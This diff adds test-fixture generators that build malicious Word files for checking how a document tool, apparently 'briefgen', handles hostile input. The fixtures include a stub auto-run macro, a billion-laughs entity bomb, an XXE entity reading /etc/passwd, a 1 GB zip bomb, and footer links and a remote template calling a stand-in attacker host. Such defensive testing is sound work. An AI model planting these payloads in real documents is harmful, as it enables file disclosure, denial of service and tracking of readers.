@@ -220,3 +220,192 @@ GENERATORS = {
     "csv-30000-character-cell.csv": _csv_long_unquoted,
     "csv-5000-columns.csv": _csv_columns,
 }
+
+
+# --- reference DOCX files ------------------------------------------------------------------------------------
+
+W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def _word_file(path: Path, header: str = "某某街道办事处文件", footer: str | None = "— {PAGE} —") -> None:
+    """A real Word file made by python-docx: a header line, and a footer with a PAGE field (or plain text)."""
+    import docx
+    from docx.oxml import parse_xml
+
+    doc = docx.Document()
+    doc.add_paragraph("正文不会被带入简报。")
+    section = doc.sections[0]
+    section.header.paragraphs[0].text = header
+    if footer is not None:
+        p = section.footer.paragraphs[0]
+        before, _, after = footer.partition("{PAGE}")
+        p.add_run(before)
+        if "{PAGE}" in footer:
+            p._p.append(parse_xml(f'<w:fldSimple xmlns:w="{W_NS}" w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple>'))
+        p.add_run(after)
+    doc.save(path)
+
+
+def _rewrite(path: Path, change) -> None:
+    """``change(parts)`` edits the dict of a package's parts in place; the package is written again."""
+    with zipfile.ZipFile(path) as z:
+        parts = {i.filename: z.read(i.filename) for i in z.infolist()}
+    change(parts)
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
+        for name, data in parts.items():
+            z.writestr(name, data)
+
+
+def _add_rel(parts: dict, rels: str, rid: str, kind: str, target: str, external: bool = False) -> None:
+    mode = ' TargetMode="External"' if external else ""
+    xml = parts[rels].decode()
+    parts[rels] = xml.replace("</Relationships>", f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/></Relationships>').encode()
+
+
+def _add_override(parts: dict, part: str, content_type: str) -> None:
+    xml = parts["[Content_Types].xml"].decode()
+    parts["[Content_Types].xml"] = xml.replace("</Types>", f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>').encode()
+
+
+def _header_part(parts: dict) -> str:
+    return next(n for n in parts if n.startswith("word/header") and n.endswith(".xml"))
+
+
+def _footer_part(parts: dict) -> str:
+    return next(n for n in parts if n.startswith("word/footer") and n.endswith(".xml"))
+
+
+def _with_everything(parts: dict, macro_main: bool = False) -> None:
+    """Macros, custom XML, an embedded OLE object in the header, an external link in the footer, an attached
+    template on a server and a mail-merge source in the settings."""
+    doc_rels = "word/_rels/document.xml.rels"
+    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0MACRO Sub AutoOpen() Shell \"calc\" End Sub"
+    _add_rel(parts, doc_rels, "rIdVba", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")
+    _add_override(parts, "word/vbaProject.bin", "application/vnd.ms-office.vbaProject")
+    parts["customXml/item1.xml"] = b'<?xml version="1.0"?><secret>customer list</secret>'
+    _add_rel(parts, doc_rels, "rIdCx", REL + "customXml", "../customXml/item1.xml")
+    header = _header_part(parts)
+    header_rels = header.replace("word/", "word/_rels/") + ".rels"
+    parts.setdefault(header_rels, b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
+    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0OLE payload"
+    _add_rel(parts, header_rels, "rIdOle", REL + "oleObject", "embeddings/oleObject1.bin")
+    parts[header] = parts[header].decode().replace(
+        "</w:p>", '<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" ProgID="Package" '
+                  f'r:id="rIdOle" xmlns:r="{R_NS}"/></w:object></w:r></w:p>', 1).encode()
+    footer = _footer_part(parts)
+    footer_rels = footer.replace("word/", "word/_rels/") + ".rels"
+    parts.setdefault(footer_rels, b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
+    _add_rel(parts, footer_rels, "rIdLink", REL + "hyperlink", "http://attacker.invalid/track.png", external=True)
+    parts[footer] = parts[footer].decode().replace(
+        "</w:p>", f'<w:hyperlink r:id="rIdLink" xmlns:r="{R_NS}"><w:r><w:t>点击</w:t></w:r></w:hyperlink>'
+                  '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE "http://attacker.invalid/x.png" </w:instrText></w:r>'
+                  '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>', 1).encode()
+    settings_rels = "word/_rels/settings.xml.rels"
+    parts[settings_rels] = b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
+    _add_rel(parts, settings_rels, "rIdTpl", REL + "attachedTemplate", "file://server/share/evil.dotm", external=True)
+    parts["word/settings.xml"] = parts["word/settings.xml"].decode().replace(
+        "<w:defaultTabStop", f'<w:attachedTemplate r:id="rIdTpl" xmlns:r="{R_NS}"/><w:defaultTabStop', 1).encode()
+    if macro_main:
+        ct = parts["[Content_Types].xml"].decode()
+        parts["[Content_Types].xml"] = ct.replace(
+            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
+            "application/vnd.ms-word.document.macroEnabled.main+xml").encode()
+
+
+def _reference_everything(path: Path) -> None:
+    _word_file(path)
+    _rewrite(path, _with_everything)
+
+
+def _reference_docm(path: Path) -> None:
+    _word_file(path)
+    _rewrite(path, lambda parts: _with_everything(parts, macro_main=True))
+
+
+def _reference_no_page_field(path: Path) -> None:
+    _word_file(path, footer="某某街道办事处印发")
+
+
+BILLION_LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
+                  + "".join(f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10))
+                  + ']><w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&lol9;</w:styles>')
+
+
+def _reference_entity_bomb(path: Path) -> None:
+    _word_file(path)
+    _rewrite(path, lambda parts: parts.update({"word/styles.xml": BILLION_LAUGHS.encode()}))
+
+
+def _reference_external_entity(path: Path) -> None:
+    _word_file(path)
+    _rewrite(path, lambda parts: parts.update({"word/styles.xml": (
+        '<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+        f'<w:styles xmlns:w="{W_NS}">&x;</w:styles>').encode()}))
+
+
+def _reference_malformed(path: Path) -> None:
+    _word_file(path)
+    _rewrite(path, lambda parts: parts.update({"word/styles.xml": parts["word/styles.xml"][:-300]}))
+
+
+def _docx_zip_bomb(path: Path) -> None:
+    """A Word file with a 1 GB part of spaces (about 1 MB on disk)."""
+    _word_file(path)
+    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
+        with z.open("word/media/padding.xml", "w", force_zip64=True) as f:
+            block = b" " * (1024 * 1024)
+            for _ in range(1024):
+                f.write(block)
+
+
+def _not_a_word_file(path: Path) -> None:
+    path.write_bytes(b"PK\x03\x04 this is not really a zip")
+
+
+# --- reports for `briefgen extract` --------------------------------------------------------------------------
+
+def _report_docx_malformed(path: Path) -> None:
+    _word_file(path)
+    _rewrite(path, lambda parts: parts.update({"word/document.xml": parts["word/document.xml"][:-200]}))
+
+
+def _report_docx_entity_bomb(path: Path) -> None:
+    _word_file(path)
+    _rewrite(path, lambda parts: parts.update({"word/document.xml": BILLION_LAUGHS.replace("w:styles", "w:document").encode()}))
+
+
+def _report_text_50mb(path: Path) -> None:
+    with path.open("w", encoding="utf-8") as f:
+        line = "一、上半年工作回顾。全街道实现规上工业增加值31.3亿元，同比增长9.5%。\n" * 1000
+        for _ in range(50 * 1024 * 1024 // len(line.encode()) + 1):
+            f.write(line)
+
+
+# --- templates and themes ------------------------------------------------------------------------------------
+
+def _theme_extends_3000(path: Path) -> None:
+    """theme-extends-3000-deep.toml extends a chain of 3,000 files beside it."""
+    folder = path.parent / (path.stem + ".d")
+    folder.mkdir(exist_ok=True)
+    for i in range(3000):
+        (folder / f"t{i}.toml").write_text(f'extends = "t{i + 1}.toml"\n' if i < 2999 else 'extends = "official"\n', encoding="utf-8")
+    path.write_text(f'extends = "{folder.name}/t0.toml"\n', encoding="utf-8")
+
+
+GENERATORS.update({
+    "reference-with-macros-objects-links.docx": _reference_everything,
+    "reference-macro-enabled.docm": _reference_docm,
+    "reference-footer-without-page-field.docx": _reference_no_page_field,
+    "reference-entity-bomb.docx": _reference_entity_bomb,
+    "reference-external-entity.docx": _reference_external_entity,
+    "reference-malformed-xml.docx": _reference_malformed,
+    "reference-zip-bomb-1gb.docx": _docx_zip_bomb,
+    "reference-not-a-zip.docx": _not_a_word_file,
+    "extract-malformed-xml.docx": _report_docx_malformed,
+    "extract-entity-bomb.docx": _report_docx_entity_bomb,
+    "extract-zip-bomb-1gb.docx": _docx_zip_bomb,
+    "extract-50mb.txt": _report_text_50mb,
+    "theme-extends-3000-deep.toml": _theme_extends_3000,
+})
